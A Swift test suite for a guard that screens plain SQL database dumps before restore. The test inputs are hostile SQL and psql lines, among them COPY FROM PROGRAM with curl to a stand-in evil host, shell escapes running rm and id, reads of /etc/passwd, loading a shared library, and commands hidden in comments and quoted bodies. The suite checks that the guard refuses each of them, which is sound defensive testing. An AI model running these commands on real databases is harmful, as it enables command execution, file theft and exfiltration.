import Foundation
import Testing
@testable import RehearseCore
@testable import RehearseEngine
@testable import RehearseEvidence
@testable import RehearseKit
@testable import RehearsePostgres
@testable import RehearseSQLite
@testable import RehearseSurrogate
@testable import RehearseValidator

/// Hostile plain dumps: whatever could reach another host, run a program or
/// touch another file is refused before anything runs, wherever it hides; a
/// pg_dump-shaped script passes.
@Suite struct DumpSQLGuardTests {
    func check(_ script: String, chunk: Int = 7) throws {
        var g = DumpSQLGuard(shown: "d.sql")
        let bytes = Array(script.utf8)
        var i = 0
        while i < bytes.count {
            let end = min(bytes.count, i + chunk)
            try Array(bytes[i..<end]).withUnsafeBytes { try g.feed($0) }
            i = end
        }
        try g.finish()
    }

    func refusal(_ script: String) -> String? {
        do { try check(script); return nil } catch let e as RehearseError {
            #expect(e.code == .refused)
            return e.message
        } catch { return "\(error)" }
    }

    static let pgDumpShaped = """
        --
        -- PostgreSQL database dump
        --
        \\restrict abc123
        SET statement_timeout = 0;
        SELECT pg_catalog.set_config('search_path', '', false);
        CREATE FUNCTION public.f() RETURNS text LANGUAGE plpgsql AS $_$
        BEGIN
          RETURN 'it''s -- not a comment; \\! not a command';
        END $_$;
        CREATE TABLE public.t (id integer, body text);
        COPY public.t (id, body) FROM stdin;
        1\tline with \\N and a backslash \\\\ and ; semicolons
        \\N\t\\connect looks like a meta-command but is data
        \\.
        SELECT pg_catalog.setval('public.t_id_seq', 3, true);
        COMMENT ON TABLE public.t IS 'a /* not a comment */ string';
        \\unrestrict abc123

        """

    @Test func aPgDumpShapedScriptPassesWhateverTheReadBoundaries() throws {
        for chunk in [1, 2, 7, 4096] { try check(Self.pgDumpShaped, chunk: chunk) }
    }

    @Test func metaCommandsAreRefusedWhereverTheyStand() {
        for (script, name) in [("\\connect postgres host=evil.example.com\n", "\\connect"), ("SET client_min_messages = warning; \\! rm -rf /tmp/x\n", "\\!"),
                               ("\\copy t FROM PROGRAM 'curl evil'\n", "\\copy"), ("\\i /etc/passwd\n", "\\i"), ("\\ir ../other.sql\n", "\\ir"),
                               ("\\o /tmp/out\n", "\\o"), ("CREATE TABLE a (id int) \\gexec\n", "\\gexec"), ("\\setenv PGHOST evil\n", "\\setenv")] {
            let m = refusal(script)
            #expect(m?.contains("has the psql meta-command \(name)") == true, "\(script): \(m ?? "passed")")
            #expect(m?.contains("nothing from this dump was restored") == true)
        }
    }

    @Test func metaCommandsHiddenInCommentsQuotesAndDollarBodiesAreRefused() {
        let hidden = [
            ("/* a comment\n\\! id\n*/ SELECT 1;\n", "inside a comment"),
            ("SELECT 'a string\n\\connect evil\n';\n", "inside a string"),
            ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $body$\n\\! id\nSELECT 1 $body$;\n", "inside a dollar-quoted body"),
        ]
        for (script, words) in hidden {
            #expect(refusal(script)?.contains(words) == true, "\(script)")
        }
    }

    @Test func copyFromProgramAndServerFilesAreRefused() {
        #expect(refusal("COPY t FROM PROGRAM 'curl http://evil/x';\n")?.contains("COPY … PROGRAM") == true)
        #expect(refusal("copy t from program 'id';\n")?.contains("COPY … PROGRAM") == true)
        #expect(refusal("COPY t FROM '/etc/passwd';\n")?.contains("reads or writes a server file") == true)
        #expect(refusal("COPY t TO '/tmp/exfil';\n")?.contains("reads or writes a server file") == true)
        #expect(refusal("COPY t (id) FROM stdin;\n1\n")?.contains("ends inside COPY data") == true)
    }

    @Test func statementsReachingOutsideTheDatabaseAreRefused() {
        for (script, words) in [
            ("CREATE EXTENSION IF NOT EXISTS dblink;\n", "creates the extension dblink"),
            ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x');\n", "foreign server"),
            ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;\n", "subscription"),
            ("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C;\n", "language c"),
            ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$;\n", "language plpython3u"),
            ("DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;\n", "DO block"),
            ("SELECT pg_read_file('/etc/passwd');\n", "runs SELECT"),
            ("ALTER SYSTEM SET archive_command = 'curl x';\n", "changes the server"),
            ("CREATE ROLE admin SUPERUSER;\n", "CREATE ROLE"),
            ("LOAD '/tmp/evil.so';\n", "changes the server"),
            ("SELECT 'unterminated;\n", "ends inside a string"),
        ] {
            #expect(refusal(script)?.contains(words) == true, "\(script): \(refusal(script) ?? "passed")")
        }
    }

    /// A comment between keywords is a word break; pg_dump's calls are
    /// allowed only whole; an unknown backslash word is not echoed.
    @Test func commentsSplitKeywordsAndAllowedCallsAreExact() {
        #expect(refusal("ALTER/**/DATABASE rehearse_scratch SET search_path = public;\n")?.contains("ALTER DATABASE") == true)
        #expect(refusal("CREATE/**/ROLE evil SUPERUSER;\n")?.contains("CREATE ROLE") == true)
        #expect(refusal("COPY/**/t FROM '/etc/hostname';\n")?.contains("server file") == true)
        #expect(refusal("CREATE--x\nEXTENSION dblink;\n")?.contains("dblink") == true)
        #expect(refusal("SELECT pg_catalog.set_config('search_path','',false), pg_catalog.pg_read_file('/etc/hostname');\n")?.contains("runs SELECT") == true)
        #expect(refusal("SET standard_conforming_strings = off;\n")?.contains("standard_conforming_strings") == true)
        let key = "AKIA" + "IOSFODNN7EXAMPLE"
        let echo = refusal("CREATE TABLE a (id int);\n\\\(key)\n")
        #expect(echo?.contains("(a backslash command)") == true)
        #expect(echo?.contains(key) == false)
    }

    @Test func insertSelectIsRefused() {
        #expect(refusal("INSERT INTO public.u2 SELECT 6, 'x';\n")?.contains("not INSERT … VALUES") == true)
        #expect(refusal("INSERT INTO public.u2 VALUES ((SELECT 1), 'x');\n")?.contains("not INSERT … VALUES") == true)
    }
}
